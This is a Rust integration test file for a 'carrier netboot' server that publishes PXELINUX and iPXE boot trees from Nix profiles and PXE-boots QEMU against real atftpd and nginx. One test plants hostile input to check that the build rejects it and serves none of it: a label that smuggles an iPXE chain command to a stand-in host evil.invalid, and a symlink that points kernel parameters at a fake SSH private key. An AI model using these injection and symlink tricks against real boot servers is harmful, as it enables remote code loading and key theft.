//! The netboot server proven end to end: real carried profiles (nix-env on store paths
//! built by Nix), `carrier netboot build` publishing the trees, real atftpd and nginx
//! serving them, and QEMU PXE-booting a Debian kernel with a marker initramfs.

#[path = "../../core/tests/common/mod.rs"]
mod common;
mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{Batch, Entry, generation_link, set_link_time, set_profile, switch_generation};
use support::cli;
use support::{atftpd::*, fetch::*, initramfs::*, netns::*, nginx::*, qemu::*, tools::*};

const FQDN: &str = "node1.netboot.test";
const ALIAS: &str = "prg/node1";
const AUTO_MAC: &str = "52:54:00:12:34:56";
const MENU_MAC: &str = "52:54:00:65:43:21";
const BOOT_PARAMS: &str = "console=ttyS0 panic=-1";

/// `nix-store --add`: a real store path holding `file`.
fn add_to_store(file: &Path) -> PathBuf {
    let out = Command::new("nix-store").arg("--add").arg(file).output().unwrap();
    assert!(out.status.success(), "nix-store --add: {}", String::from_utf8_lossy(&out.stderr));
    PathBuf::from(String::from_utf8(out.stdout).unwrap().trim())
}

struct Carrier {
    dir: tempfile::TempDir,
    profiles: PathBuf,
    /// Store path of each generation's toplevel, by generation number.
    toplevels: Vec<PathBuf>,
}

impl Carrier {
    /// A carrier carrying `prg/node1` (NixOS) with generations 1..=3, current 2.
    fn new() -> Carrier {
        let dir = tempfile::Builder::new().prefix("carrier-netboot.").tempdir().unwrap();
        let profiles = dir.path().join("profiles");
        let kernel = add_to_store(&tools().kernel);
        let mut toplevels = Vec::new();
        for generation in 1..=3u64 {
            let initrd_file = dir.path().join(format!("initrd-{generation}"));
            build_initramfs(&initrd_file, FQDN, generation).unwrap();
            let initrd = add_to_store(&initrd_file);
            let (top, dist) =
                (format!("nixos-system-node1-{generation}"), format!("dist-node1-{generation}"));
            let machine_json = serde_json::json!({
                "spin": "nixos",
                "fqdn": FQDN,
                "label": FQDN,
                "toplevel": format!("{{{{{top}}}}}"),
                "version": format!("26.11.{generation}"),
                "revision": format!("{generation}234567890abcdef"),
                "macs": [AUTO_MAC.to_uppercase()],
                "kernelParams": BOOT_PARAMS.split(' ').collect::<Vec<_>>(),
            });
            let mut batch = Batch::new();
            batch.add(
                &top,
                &[
                    ("init", Entry::text("#!/bin/sh\n")),
                    ("kernel", Entry::link(kernel.display().to_string())),
                ],
            );
            batch.add(
                &dist,
                &[
                    ("bzImage", Entry::link(kernel.display().to_string())),
                    ("initrd", Entry::link(initrd.display().to_string())),
                    ("machine.json", Entry::text(machine_json.to_string())),
                ],
            );
            let paths = batch.build();
            toplevels.push(paths[&top].clone());
            assert_eq!(set_profile(&profiles, ALIAS, &paths[&dist]), generation);
            set_link_time(
                &generation_link(&profiles, ALIAS, generation),
                1_790_000_000 + generation as i64 * 86_400,
            );
        }
        switch_generation(&profiles, ALIAS, 2);
        Carrier { dir, profiles, toplevels }
    }

    fn tftp_root(&self) -> PathBuf {
        self.dir.path().join("netboot/tftp")
    }

    fn http_root(&self) -> PathBuf {
        self.dir.path().join("netboot/http")
    }

    /// Runs `carrier netboot build` with a config like the NixOS module writes; asserts
    /// a clean build.
    fn build(&self, http_url: &str) -> String {
        let out = self.run_build(http_url);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "carrier netboot build failed: {stderr}");
        assert!(stderr.contains("published 1 machine"), "{stderr}");
        String::from_utf8(out.stdout).unwrap()
    }

    fn run_build(&self, http_url: &str) -> std::process::Output {
        let config = self.dir.path().join("netboot.json");
        let json = serde_json::json!({
            "tftpRoot": self.tftp_root(),
            "httpRoot": self.http_root(),
            "hostName": "carrier-lab",
            "httpUrl": http_url,
            "syslinux": ["/usr/lib/PXELINUX", "/usr/lib/syslinux/modules/bios", "/usr/lib/syslinux"],
            "memtest": null,
            "isoImages": [],
            "profilesDir": self.profiles,
            "lockFile": self.dir.path().join("netboot.lock"),
            "timeZone": "UTC",
        });
        std::fs::write(&config, json.to_string()).unwrap();
        let mut cmd = cli::Carrier::new().command(&["netboot", "build", "--config"]);
        cmd.arg(&config).output().unwrap()
    }

    fn assert_cmdline(&self, m: &Marker, generation: u64, http_url: &str) {
        let toplevel = self.toplevels[generation as usize - 1].display();
        for want in [
            format!("httproot={http_url}/{FQDN}/{generation}/initrd"),
            format!("init={toplevel}/init"),
            BOOT_PARAMS.to_string(),
        ] {
            assert!(
                m.cmdline.contains(&want),
                "kernel command line {:?} lacks {want:?}",
                m.cmdline
            );
        }
    }
}

/// (a) Real atftpd in a network namespace: PXELINUX finds the per-MAC file (the MAC was
/// written in upper case in machine.json) and boots the current generation, 2, which
/// is not the newest.
#[test]
fn pxelinux_boots_the_current_generation_by_mac_from_atftpd() {
    let carrier = Carrier::new();
    let url = "http://10.0.2.2";
    let progress = carrier.build(url);
    assert!(progress.contains(&format!("{FQDN}\n")), "{progress}");
    assert!(progress.contains("(current)"), "{progress}");

    let mut lab = Lab::new().unwrap();
    lab.link_host().unwrap();
    let atftpd = lab.start_atftpd(&carrier.tftp_root()).unwrap();
    let spec = BootSpec::new(BootSource::Url(atftpd.url("pxelinux.0")), AUTO_MAC);
    let (m, _) = boot_expect(&spec, &[], FQDN, 2).unwrap();
    carrier.assert_cmdline(&m, 2, url);
    let served = served_by_atftpd(&atftpd.log());
    for f in ["pxelinux.cfg/01-52-54-00-12-34-56".to_string(), format!("boot/{FQDN}/2/initrd")] {
        assert!(served.contains(&f), "atftpd did not serve {f}; log:\n{}", atftpd.log());
    }
    assert!(
        !served.contains("pxelinux.cfg/default"),
        "the per-MAC file should win:\n{}",
        atftpd.log()
    );
}

/// (b) A machine without a per-MAC file walks the menus on the serial console and boots
/// an older generation (1) from the machine's menu.
#[test]
fn an_older_generation_boots_from_the_menu() {
    let carrier = Carrier::new();
    let url = "http://10.0.2.2";
    carrier.build(url);
    let spec = BootSpec::new(
        BootSource::BuiltinTftp { root: carrier.tftp_root(), bootfile: "pxelinux.0".into() },
        MENU_MAC,
    );
    // main menu: NixOS >; NixOS menu: the machine; machine menu: current, Gen 3, Gen 1.
    let steps = [
        MenuStep::new("NixOS >", &[Key::Enter]),
        MenuStep::new(&format!("{FQDN} >"), &[Key::Enter]),
        MenuStep::new("Gen 1 - ", &[Key::Down, Key::Down, Key::Enter]),
    ];
    let (m, log) = boot_expect(&spec, &steps, FQDN, 1).unwrap();
    carrier.assert_cmdline(&m, 1, url);
    assert!(log.serial.contains("Gen 3 - "), "every generation is listed:\n{}", log.serial);
}

/// (c) iPXE over HTTP from real nginx: the generic boot script chains this NIC's script,
/// which boots the current generation.
#[test]
fn ipxe_boots_over_http_from_nginx() {
    ipxe_boots_over_http(false);
}

/// (e) UEFI: OVMF firmware, the NIC's iPXE as an EFI driver, the same scripts over HTTP.
#[test]
fn uefi_ipxe_boots_over_http_from_nginx() {
    ipxe_boots_over_http(true);
}

fn ipxe_boots_over_http(uefi: bool) {
    let carrier = Carrier::new();
    let nginx = Nginx::start(&carrier.http_root(), &NginxOptions::default()).unwrap();
    let url = nginx.guest_url();
    carrier.build(&url);
    let mut spec = BootSpec::new(BootSource::Url(format!("{url}/ipxe/boot.ipxe")), AUTO_MAC);
    if uefi {
        spec.uefi = true;
        spec.timeout = std::time::Duration::from_secs(180);
    }
    let (m, _) = boot_expect(&spec, &[], FQDN, 2).unwrap();
    carrier.assert_cmdline(&m, 2, &url);
    let access = nginx.access_log();
    for path in
        ["/ipxe/boot.ipxe".to_string(), format!("/{FQDN}/2/bzImage"), format!("/{FQDN}/2/initrd")]
    {
        assert!(
            access.contains(&format!("\"GET {path} HTTP/1.1\" 200 ")),
            "nginx did not serve {path}:\n{access}"
        );
    }
}

/// (d) iPXE over TFTP from real atftpd in a network namespace: the same entry script,
/// its chains resolved against the `tftp://` URI it was loaded from.
#[test]
fn ipxe_boots_over_tftp_from_atftpd() {
    let carrier = Carrier::new();
    let url = "http://10.0.2.2";
    carrier.build(url);
    let mut lab = Lab::new().unwrap();
    lab.link_host().unwrap();
    let atftpd = lab.start_atftpd(&carrier.tftp_root()).unwrap();
    let mut spec = BootSpec::new(BootSource::Url(atftpd.url("ipxe/boot.ipxe")), AUTO_MAC);
    spec.timeout = std::time::Duration::from_secs(120);
    let (m, _) = boot_expect(&spec, &[], FQDN, 2).unwrap();
    carrier.assert_cmdline(&m, 2, url);
    let served = served_by_atftpd(&atftpd.log());
    for f in [
        "ipxe/boot.ipxe".to_string(),
        "ipxe/01-52-54-00-12-34-56.ipxe".into(),
        format!("boot/{FQDN}/2/initrd"),
    ] {
        assert!(served.contains(&f), "atftpd did not serve {f}; log:\n{}", atftpd.log());
    }
}

/// Every file of both published trees, through real atftpd and real nginx; the JSON
/// files kexec-netboot reads are there and name the current generation.
#[test]
fn published_trees_are_served_whole_by_atftpd_and_nginx() {
    let carrier = Carrier::new();
    let nginx = Nginx::start(&carrier.http_root(), &NginxOptions::default()).unwrap();
    carrier.build(&nginx.url());
    let atftpd = Atftpd::start(&carrier.tftp_root()).unwrap();
    let tftp = verify_tree_tftp(&carrier.tftp_root(), atftpd.addr, TftpClient::Curl).unwrap();
    assert!(tftp.iter().any(|f| f == &format!("boot/{FQDN}/3/initrd")), "{tftp:?}");
    let http = verify_tree_http(&carrier.http_root(), &nginx.url()).unwrap();
    assert!(http.iter().any(|f| f == &format!("{FQDN}/1/kernel-params")), "{http:?}");

    let machines: serde_json::Value =
        serde_json::from_slice(&http_get(&format!("{}/machines.json", nginx.url())).unwrap().body)
            .unwrap();
    assert_eq!(machines["machines"][0]["name"], "prg:node1");
    let machine: serde_json::Value = serde_json::from_slice(
        &http_get(&format!("{}/{FQDN}/machine.json", nginx.url())).unwrap().body,
    )
    .unwrap();
    let current: Vec<_> = machine["generations"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|g| g["current"] == true)
        .collect();
    assert_eq!(current.len(), 1);
    assert_eq!(current[0]["generation"], 2);
    let link = std::fs::read_link(carrier.http_root().join(FQDN).join("current")).unwrap();
    assert_eq!(link, Path::new("2"));
}

/// The allow-list of the NixOS module (`allow <range>; deny all;`) on the published
/// tree: a client inside the range gets the files, one outside gets 403. Both clients
/// and the server live in network namespaces this test creates.
#[test]
fn allow_list_admits_only_the_allowed_range() {
    let carrier = Carrier::new();
    let mut lab = Lab::new().unwrap();
    let inside = lab.add_client("inside").unwrap();
    let outside = lab.add_client("outside").unwrap();
    let base = format!("http://{}", lab.service_addr());
    carrier.build(&base);
    let nginx =
        lab.start_nginx(&carrier.http_root(), &NginxOptions::allow(&[&inside.net])).unwrap();
    let initrd = format!("{base}/{FQDN}/2/initrd");
    let want = std::fs::read(carrier.http_root().join(format!("{FQDN}/2/initrd"))).unwrap();
    let got = inside.http_get(&initrd).unwrap();
    assert_eq!(got.status, 200);
    assert!(got.body == want, "the inside client got the initrd");
    assert_eq!(inside.http_get(&format!("{base}/machines.json")).unwrap().status, 200);
    for url in [initrd.as_str(), &format!("{base}/machines.json")] {
        assert_eq!(outside.http_get(url).unwrap().status, 403, "{url} from outside");
    }
    assert!(
        nginx.error_log().contains(&format!("access forbidden by rule, client: {}", outside.addr))
    );
}

/// One broken carried machine no longer takes the netboot server down: the build exits
/// non-zero naming it, and every other machine is still published.
#[test]
fn a_broken_carried_machine_is_left_out_and_the_rest_published() {
    let carrier = Carrier::new();
    let broken = common::build_dist("dist-broken", &[("bzImage", "k"), ("initrd", "i")]);
    set_profile(&carrier.profiles, "broken", &broken);
    let out = carrier.run_build("http://10.0.2.2");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "a fault must fail the command");
    assert!(stderr.contains("published 1 machine") && stderr.contains("1 left out"), "{stderr}");
    assert!(stderr.contains("broken") && stderr.contains("machine.json"), "{stderr}");
    assert!(carrier.tftp_root().join("pxelinux.cfg/01-52-54-00-12-34-56").exists());
    let machines: serde_json::Value =
        serde_json::from_slice(&std::fs::read(carrier.http_root().join("machines.json")).unwrap())
            .unwrap();
    let names: Vec<_> =
        machines["machines"].as_array().unwrap().iter().map(|m| m["name"].clone()).collect();
    assert_eq!(names, [serde_json::json!("prg:node1")]);
}

/// Dists written by someone hostile next to the good machine: an iPXE command in the
/// label (which lands in the shared main menus), a `kernel-params` that is a symlink to a
/// secret file of the carrier. The build names both and leaves them out; every file
/// atftpd and nginx serve is what is on disk, and none holds the command or the secret.
#[test]
fn hostile_dists_are_not_served_by_atftpd_or_nginx() {
    const INJECTED: &str = "evil.invalid";
    const SECRET: &str = "SECRET-KEY-MATERIAL-9d2e";
    let carrier = Carrier::new();
    let secret = carrier.dir.path().join("id_ed25519");
    std::fs::write(&secret, format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n")).unwrap();
    let machine_json = |fqdn: &str, label: &str| {
        serde_json::json!({"fqdn": fqdn, "label": label, "toplevel": "{{nixos-system-hostile}}"})
            .to_string()
    };
    let mut batch = Batch::new();
    batch.add("nixos-system-hostile", &[("init", Entry::text("#!/bin/sh\n"))]);
    let label = format!("x ; chain http://{INJECTED}/a.ipxe");
    batch.add(
        "dist-label",
        &[
            ("bzImage", Entry::text("k")),
            ("initrd", Entry::text("i")),
            ("machine.json", Entry::text(machine_json("label.test", &label))),
        ],
    );
    batch.add(
        "dist-secret",
        &[
            ("bzImage", Entry::text("k")),
            ("initrd", Entry::text("i")),
            ("kernel-params", Entry::link(secret.display().to_string())),
            ("machine.json", Entry::text(machine_json("secret.test", "secret"))),
        ],
    );
    let paths = batch.build();
    set_profile(&carrier.profiles, "label", &paths["dist-label"]);
    set_profile(&carrier.profiles, "secret", &paths["dist-secret"]);

    let nginx = Nginx::start(&carrier.http_root(), &NginxOptions::default()).unwrap();
    let out = carrier.run_build(&nginx.url());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "faults must fail the command: {stderr}");
    assert!(stderr.contains("published 1 machine") && stderr.contains("2 left out"), "{stderr}");
    assert!(stderr.contains("profile 'label'") && stderr.contains("field `label`"), "{stderr}");
    assert!(
        stderr.contains("profile 'secret'") && stderr.contains("outside the Nix store"),
        "{stderr}"
    );
    assert!(!stderr.contains(SECRET), "{stderr}");

    let atftpd = Atftpd::start(&carrier.tftp_root()).unwrap();
    let tftp = verify_tree_tftp(&carrier.tftp_root(), atftpd.addr, TftpClient::Curl).unwrap();
    let http = verify_tree_http(&carrier.http_root(), &nginx.url()).unwrap();
    assert!(
        tftp.contains(&"ipxe/menu.ipxe".to_string())
            && http.contains(&"ipxe/menu.ipxe".to_string())
    );
    // Served bytes are the bytes on disk (checked above): search those.
    for root in [carrier.tftp_root(), carrier.http_root()] {
        let (files, _) = tree_files(&root).unwrap();
        for f in files {
            let bytes = std::fs::read(&f.target).unwrap();
            for needle in [INJECTED, SECRET] {
                let found = bytes.windows(needle.len()).any(|w| w == needle.as_bytes());
                assert!(!found, "{} serves '{needle}' ({})", f.rel, root.display());
            }
        }
    }
}

/// Rebuilds while atftpd and nginx keep running: each rebuild is served at once, with no
/// restart. The third build reuses the first build's directories (the spare tree,
/// patched), and what it serves is exactly what a build from nothing writes.
#[test]
fn servers_follow_each_rebuild_without_a_restart() {
    let carrier = Carrier::new();
    let nginx = Nginx::start(&carrier.http_root(), &NginxOptions::default()).unwrap();
    carrier.build(&nginx.url());
    let atftpd = Atftpd::start(&carrier.tftp_root()).unwrap();
    let initrd = |g: u64| {
        std::fs::read(carrier.tftp_root().join(format!("boot/{FQDN}/{g}/initrd"))).unwrap()
    };
    assert!(
        initrd(1) != initrd(2) && initrd(2) != initrd(3),
        "each generation's initrd has its own marker"
    );
    let served = |g: u64| {
        let by_tftp = tftp_get(atftpd.addr, &format!("boot/{FQDN}/current/initrd")).unwrap();
        assert!(by_tftp == initrd(g), "atftpd serves generation {g} as current");
        let by_http = http_get(&format!("{}/{FQDN}/current/initrd", nginx.url())).unwrap();
        assert!(
            by_http.status == 200 && by_http.body == initrd(g),
            "nginx serves generation {g} as current"
        );
        let machines: serde_json::Value = serde_json::from_slice(
            &http_get(&format!("{}/machines.json", nginx.url())).unwrap().body,
        )
        .unwrap();
        let current: Vec<_> = machines["machines"][0]["generations"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|x| x["current"] == true)
            .map(|x| x["generation"].clone())
            .collect();
        assert_eq!(current, [serde_json::json!(g)]);
    };
    served(2);
    let first = std::fs::read_link(carrier.tftp_root()).unwrap();

    switch_generation(&carrier.profiles, ALIAS, 3);
    carrier.build(&nginx.url());
    served(3);
    let second = std::fs::read_link(carrier.tftp_root()).unwrap();
    assert_ne!(second, first);

    switch_generation(&carrier.profiles, ALIAS, 1);
    carrier.build(&nginx.url());
    served(1);
    assert_eq!(
        std::fs::read_link(carrier.tftp_root()).unwrap(),
        first,
        "the spare is patched and served"
    );
    // What clients see: every path and its bytes.
    let contents = |root: PathBuf| -> Vec<(String, Vec<u8>)> {
        let (files, _) = tree_files(&root).unwrap();
        files.into_iter().map(|f| (f.rel, std::fs::read(&f.target).unwrap())).collect()
    };
    let patched = (contents(carrier.tftp_root()), contents(carrier.http_root()));

    // The same, written from nothing.
    let netboot = carrier.tftp_root().parent().unwrap().to_path_buf();
    std::fs::remove_dir_all(&netboot).unwrap();
    carrier.build(&nginx.url());
    served(1);
    assert!(
        (contents(carrier.tftp_root()), contents(carrier.http_root())) == patched,
        "a patched tree is a fresh one"
    );
    assert!(atftpd.log().contains(&format!("boot/{FQDN}/current/initrd")), "{}", atftpd.log());
}

impl Carrier {
    /// `carrier netboot preview <mac> --json` with the configuration of the last build.
    fn preview(&self, mac: &str) -> serde_json::Value {
        let out = self.run_preview(&[mac, "--json"]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "carrier netboot preview {mac} failed: {stderr}");
        serde_json::from_slice(&out.stdout).unwrap()
    }

    fn run_preview(&self, args: &[&str]) -> std::process::Output {
        self.run_netboot(&[&["preview"], args].concat())
    }

    /// `carrier netboot <args> --config <the last build's>`.
    fn run_netboot(&self, args: &[&str]) -> std::process::Output {
        let mut cmd = cli::Carrier::new().command(&["netboot"]);
        cmd.args(args).arg("--config").arg(self.dir.path().join("netboot.json")).output().unwrap()
    }
}

/// The boot preview reads the published trees: for the machine's MAC it names the
/// current generation and shows exactly the bytes atftpd and nginx serve under the
/// names PXELINUX and iPXE ask for; an unknown MAC gets the default menus; after a new
/// generation is set and the trees rebuilt it names the new one; a second machine
/// claiming the MAC is reported as the build reports it.
#[test]
fn boot_preview_shows_exactly_what_is_served() {
    let carrier = Carrier::new();
    let nginx = Nginx::start(&carrier.http_root(), &NginxOptions::default()).unwrap();
    let url = nginx.url();
    carrier.build(&url);
    let atftpd = Atftpd::start(&carrier.tftp_root()).unwrap();
    let dist =
        |g: u64| std::fs::canonicalize(generation_link(&carrier.profiles, ALIAS, g)).unwrap();
    // Each previewed file is what the servers send for its path.
    let assert_served = |p: &serde_json::Value| {
        for (key, tftp) in [("pxelinux", true), ("ipxe_tftp", true), ("ipxe_http", false)] {
            let (path, content) =
                (p[key]["path"].as_str().unwrap(), p[key]["content"].as_str().unwrap());
            let served = if tftp {
                tftp_get(atftpd.addr, path).unwrap()
            } else {
                let r = http_get(&format!("{url}/{path}")).unwrap();
                assert_eq!(r.status, 200, "{path}");
                r.body
            };
            assert!(served == content.as_bytes(), "{key}: {path} as served differs:\n{content}");
        }
    };
    let assert_machine = |p: &serde_json::Value, g: u64| {
        assert_eq!(p["mac"], "52-54-00-12-34-56");
        assert_eq!(p["machine"]["name"], "prg:node1");
        assert_eq!(p["machine"]["fqdn"], FQDN);
        assert_eq!(p["machine"]["generation"]["number"], g);
        assert_eq!(p["machine"]["generation"]["store_path"], dist(g).display().to_string());
        let params: Vec<&str> = p["machine"]["generation"]["kernel_params"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        let init = format!("init={}/init", carrier.toplevels[g as usize - 1].display());
        let httproot = format!("httproot={url}/{FQDN}/{g}/initrd");
        for want in [httproot.as_str(), init.as_str(), "console=ttyS0", "panic=-1"] {
            assert!(params.contains(&want), "{want} not in {params:?}");
        }
        assert_eq!(p["pxelinux"]["path"], "pxelinux.cfg/01-52-54-00-12-34-56");
        assert_eq!(p["ipxe_tftp"]["path"], "ipxe/01-52-54-00-12-34-56.ipxe");
        assert_eq!(p["ipxe_http"]["path"], "ipxe/01-52-54-00-12-34-56.ipxe");
        let pxelinux = p["pxelinux"]["content"].as_str().unwrap();
        assert!(pxelinux.contains(&format!("/{FQDN}/{g}/initrd")), "{pxelinux}");
        assert_served(p);
    };

    // The MAC as machine.json writes it (upper case) and as PXELINUX names it.
    let p = carrier.preview(AUTO_MAC);
    assert_machine(&p, 2);
    assert_eq!(p, carrier.preview("52-54-00-12-34-56"));
    assert_eq!(p["conflicts"], serde_json::json!([]));

    let unknown = carrier.preview(&MENU_MAC.to_uppercase().replace(':', "-"));
    assert_eq!(unknown["machine"], serde_json::Value::Null);
    assert_eq!(unknown["pxelinux"]["path"], "pxelinux.cfg/default");
    assert_eq!(unknown["ipxe_tftp"]["path"], "ipxe/menu.ipxe");
    assert_eq!(unknown["ipxe_http"]["path"], "ipxe/menu.ipxe");
    assert_served(&unknown);

    // The text form names the machine and generation and prints the files as served.
    let text = carrier.run_preview(&[AUTO_MAC]);
    let text = String::from_utf8(text.stdout).unwrap();
    assert!(
        text.contains(&format!("boots generation 2 by default: {}", dist(2).display())),
        "{text}"
    );
    assert!(text.contains(p["pxelinux"]["content"].as_str().unwrap()), "{text}");

    let bad = carrier.run_preview(&["52:54:00:12:34"]);
    let stderr = String::from_utf8_lossy(&bad.stderr);
    assert!(!bad.status.success() && stderr.contains("'52:54:00:12:34' is not a MAC"), "{stderr}");

    switch_generation(&carrier.profiles, ALIAS, 3);
    assert_machine(&carrier.preview(AUTO_MAC), 2); // not rebuilt yet: still what is served
    carrier.build(&url);
    assert_machine(&carrier.preview(AUTO_MAC), 3);

    // A second machine claiming the MAC, deployed later: the build leaves it out, the
    // preview still shows node1 and names the conflict with the build's words.
    let node1 = dist(3);
    let mut batch = Batch::new();
    let json = serde_json::json!({
        "spin": "nixos",
        "fqdn": "node2.netboot.test",
        "toplevel": carrier.toplevels[0],
        "macs": [AUTO_MAC],
    });
    let (kernel, initrd) = (node1.join("bzImage"), node1.join("initrd"));
    batch.add(
        "dist-node2",
        &[
            ("bzImage", Entry::link(std::fs::canonicalize(kernel).unwrap().display().to_string())),
            ("initrd", Entry::link(std::fs::canonicalize(initrd).unwrap().display().to_string())),
            ("machine.json", Entry::text(json.to_string())),
        ],
    );
    let node2 = batch.build()["dist-node2"].clone();
    assert_eq!(set_profile(&carrier.profiles, "prg/node2", &node2), 1);
    let built = carrier.run_build(&url);
    let build_stderr = String::from_utf8_lossy(&built.stderr);
    assert!(!built.status.success(), "{build_stderr}");
    let p = carrier.preview(AUTO_MAC);
    assert_machine(&p, 3);
    let conflicts = p["conflicts"].as_array().unwrap();
    assert_eq!(conflicts.len(), 1, "{conflicts:?}");
    assert_eq!(conflicts[0]["profile"], "prg:node2");
    assert_eq!(conflicts[0]["kind"], "mac-collision");
    let message = conflicts[0]["message"].as_str().unwrap();
    assert!(message.contains("profile 'prg:node1'"), "{message}");
    assert!(build_stderr.contains(message), "the build reports {build_stderr}, not {message}");

    // `carrier netboot last-build` tells what that build did: node2 left out, and why.
    let out = carrier.run_netboot(&["last-build", "--json"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let last: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let report = &last["outcome"]["ok"];
    let published: Vec<&str> = report["machines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["fqdn"].as_str().unwrap())
        .collect();
    assert_eq!(published, [FQDN]);
    assert_eq!(report["faults"][0]["profile"], "prg:node2");
    assert_eq!(report["faults"][0]["message"], message);
    assert!(last["finished_at"].as_str().unwrap().parse::<jiff::Timestamp>().is_ok(), "{last}");
    let text = carrier.run_netboot(&["last-build"]);
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.starts_with("last build ended ") && text.contains("1 left out"), "{text}");
}
